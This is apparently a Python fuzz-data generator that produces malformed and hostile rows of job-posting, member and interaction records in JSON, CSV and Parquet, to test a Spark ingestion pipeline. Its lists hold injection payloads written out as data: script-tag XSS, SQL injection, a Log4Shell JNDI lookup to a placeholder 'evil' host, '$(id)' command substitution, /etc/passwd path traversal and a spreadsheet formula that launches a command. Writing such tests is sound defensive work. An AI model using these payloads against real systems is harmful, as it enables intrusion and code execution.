"""Rows of people who mean harm: for one seed the same ones, in as many as asked for, in three formats."""

import csv
import datetime
import json
import math
import random
import zlib
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from schemas import columns as c
from schemas import interactions, members, postings

CANARY = "qzcanaryqz"  # in every text of a row: where it is found, a row's text has come out
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>"
TEXTS = [
    MARKUP,
    "",
    "NA\x00\x00",
    "\x00\x01\x02\x1f\x7f\x80\x9b",
    "\x1b[2J\x1b[31mred\x1b]8;;http://evil\x07link\x1b]8;;\x07",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200f\u061c",
    "zero\u200bwidth\u200d\u2060joined\ufeff \U000e0041\U000e0042",
    "مهندس برمجيات في دبي — מפתח תוכנה",
    "👩🏽‍⚕️👨‍👩‍👧‍👦🏳️‍🌈 nurse 🩺",
    "Z" + "\u0300\u0316" * 400 + "algo",
    "\u0301\u0301\u0301",
    "\u200d",
    "\ue000\uf8ff\ufffd",
    "<" * 3000 + "b>&lt;script&gt;&amp;lt;",
    "'; DROP TABLE recommendations; -- \" OR 1=1 /* ` */",
    "${jndi:ldap://evil/x} ${PATH} {0} {config.__class__} %s %n %(message)s {{7*7}} $(id) `id`",
    "../../../../etc/passwd\x00.parquet",
    "C:\\windows\\system32 \\\\host\\share %2e%2e%2f file:///etc/passwd",
    "line one\nline two\r\nthree\u2028four\u2029five\x0bsix\x85seven",
    "=cmd|'/c calc'!A1\t@SUM(1)",
    "[/bold][link=http://evil]click[/link] [red",
    "ends in a backslash\\",
    "a" * 5000,
    "NULL",
    "\\N",
    "NaN",
    '[[[["x"',
]
SURROGATES = ["\ud800", "cook\udfff\ud83d", '{"title": "\\ud800"}']  # that JSON alone can carry
IDS = [
    "../../../../tmp/evil",
    "/etc/passwd",
    "x" * 10_000,
    "id\nwith\r\nlines",
    "id\x1b[2J\x9b31m",
    "\x01 \x01",
    "\x00",
    " ",
    "\u200b",
    "\u202eevil",
    "' OR '1'='1",
    "p3#2",
    "m3#2",
    "p3\x1f2",
    "m3\x1f2",
    "${id} {0} %s",
    "<b>id</b>",
    "🤖",
    "NaN",
    "null",
]
NUMBERS = [
    *(-1, 0, -0.0, 1e308, -1e308, 5e-324, math.nan, math.inf, -math.inf, 2**63, 10**37, "1e308k", "9" * 400),
    *("0x7f", "1_000", "١٢٣", "1e999", "--5", "50-60k", "½", "1" + " " * 50 + "x", True, "$" * 61),
]
DATES = [
    *("0001-01-01", "9999-12-31T23:59:59-23:59", "2026-11-03", "2026-11-02T23:59:59-12:00", "0000-00-00", "2026-02-30"),
    *("-4713-11-24", "+33658-09-27T01:46:40Z", "1e18", "1000000000000000000", "9999999999999", "٢٠٢٦-١١-٠١", "soon"),
    *(1e18, -(2**62), 10**18, 0, math.nan, "2026-11-01T00:00:00\u2212\u0660", "03/04/2026", "\x002026-11-01"),
]
NESTED = ["[" * 5_000, '{"a":' * 2_000, "[" * 900 + "]" * 900, json.dumps([["x"] * 20] * 20), "[1e999, -1, NaN]"]
KINDS = {"postings": postings.SOURCE, "members": members.SOURCE, "interactions": interactions.SOURCE}
_NUMBERS = {c.MIN_YEARS, c.SALARY_MIN, c.SALARY_MAX, c.YEARS_OF_EXPERIENCE, c.MIN_SALARY}
_DATES = {c.POSTED_ON, c.EXPIRES_ON, c.OCCURRED_AT}
_IDS = {c.POSTING_ID, c.MEMBER_ID}
_NIGHT = datetime.date(2026, 11, 2)


def hostile_rows(kind: str, count: int, seed: int) -> list[dict[str, object]]:
    """So many rows of the kind: half of them sound but for one or two fields, so that much is accepted."""
    draw = random.Random(f"{kind} {seed}")
    rows: list[dict[str, object]] = []
    for number in range(count):
        row = _sound(kind, number, draw)
        lot = draw.random()
        if number and lot < 0.05:
            row = dict(draw.choice(rows))  # the same row again, or another of the same id
            if draw.random() < 0.5:
                row[draw.choice(list(row))] = draw.choice(TEXTS)
        elif number and lot < 0.08:
            row = dict.fromkeys(row)
        elif number:
            attacked = draw.sample(list(row), len(row) if lot > 0.9 else draw.choice([1, 1, 2, 3]))
            row |= {name: _attack(name, draw) for name in attacked}
        rows.append(row)
    return rows


def _sound(kind: str, number: int, draw: random.Random) -> dict[str, object]:
    words = [draw.choice(["night", "nurse", "welder", "cook", "sales", "java", "lead"]) for _ in range(25)]
    day = str(_NIGHT - datetime.timedelta(days=draw.randrange(90)))
    texts = [f"{CANARY} {words[0]}", words[1]]
    sound = {
        c.POSTING_ID: f"p{number}" if kind == "postings" else f"p{draw.randrange(500)}",
        c.MEMBER_ID: f"m{number}" if kind == "members" else f"m{draw.randrange(500)}",
        c.KIND: draw.choice(["viewed", "applied", "dismissed"]),
        c.STATUS: "open",
        c.OPTED_OUT: "no",
        c.EXPIRES_ON: "2026-12-01",
        c.PLACES: [{"country": "US", "region": "TX", "city": CANARY}],
        c.EXPERIENCES: [
            {"title": f"{CANARY} {words[2]}", "company": "Acme", "started_on": "2020-01", "ended_on": None}
        ],
        **dict.fromkeys(_NUMBERS, 3),
        **dict.fromkeys(_DATES - {c.EXPIRES_ON}, day),
        **dict.fromkeys((c.SKILLS, c.WANTED_TITLES, c.LANGUAGES, c.WORK_MODES, c.EMPLOYMENT_TYPES), texts),
        c.BLOCKED_COMPANIES: [CANARY],
    }
    return {name: sound.get(name, f"{CANARY} {' '.join(words)} {number}") for name in KINDS[kind].names}


def _attack(name: str, draw: random.Random) -> object:
    if draw.random() < 0.15:  # a value of another type altogether
        return draw.choice([None, True, 12, -1.5, [], {}, [1, None, "x"], {"title": CANARY}, [[["deep"]]]])
    if name in _IDS:
        return draw.choice(IDS)
    if name in _NUMBERS:
        return draw.choice(NUMBERS)
    if name in _DATES:
        return draw.choice(DATES)
    text = draw.choice([*TEXTS, *SURROGATES, *NESTED])
    return draw.choice([text, text + CANARY, f"{CANARY} cook {text}", [text, CANARY], [{"title": text, "city": text}]])


def write(rows: list[dict[str, object]], format: str, path: Path) -> None:
    """A file that Spark reads by `FORMATS[format]`."""
    path.parent.mkdir(parents=True, exist_ok=True)
    {"json": _write_json, "csv": _write_csv, "parquet": _write_parquet}[format](rows, path)


def _write_json(rows: list[dict[str, object]], path: Path) -> None:
    """A line each; a lone surrogate is an escape, and not a number is a word."""
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="ascii")


def _write_csv(rows: list[dict[str, object]], path: Path) -> None:
    with path.open("w", encoding="utf-8", errors="replace", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(rows[0])
        for row in rows:
            cells = [value if isinstance(value, str) or value is None else json.dumps(value) for value in row.values()]
            writer.writerow(cells)


def _write_parquet(rows: list[dict[str, object]], path: Path) -> None:
    """Columns of types that the canonical ones are not; text with bytes that are no UTF-8."""
    columns = {name: _typed(name, [row[name] for row in rows]) for name in rows[0]}
    pq.write_table(pa.table(columns), path, row_group_size=5_000)


def _typed(name: str, values: list[object]) -> pa.Array:
    if name in _NUMBERS:
        return pa.array([_float(value) for value in values], pa.float64())
    if name in _DATES:
        return pa.array([_moment(value) for value in values], pa.int64()).cast(pa.timestamp("us"))
    if name in {c.SKILLS, c.WANTED_TITLES, c.BLOCKED_COMPANIES, c.LANGUAGES}:
        lists = [[_bytes(one) for one in value] if isinstance(value, list) else None for value in values]
        flat = pa.array(lists, pa.list_(pa.binary()))
        return pa.ListArray.from_arrays(flat.offsets, flat.values.view(pa.string()), mask=flat.is_null())
    encoded = [None if value is None else _bytes(value) for value in values]
    binary = pa.array(encoded, pa.binary())
    return binary if name == c.SENIORITY else binary.view(pa.string())


def _float(value: object) -> float | None:
    try:
        return float(value)  # type: ignore[arg-type]
    except (TypeError, ValueError, OverflowError):
        return None


def _moment(value: object) -> int:
    """Microseconds since 1970, anywhere in what 64 bits hold where the value is no date of ISO 8601."""
    try:
        return (datetime.date.fromisoformat(str(value)) - datetime.date(1970, 1, 1)).days * 86_400_000_000
    except ValueError:
        return zlib.crc32(str(value).encode()) * 2**31 - 2**62


def _bytes(value: object) -> bytes:
    text = value if isinstance(value, str) else json.dumps(value)
    return text.encode("utf-8", "surrogatepass") + (b"\xff\xfe\xc3" if "cook" in text else b"")
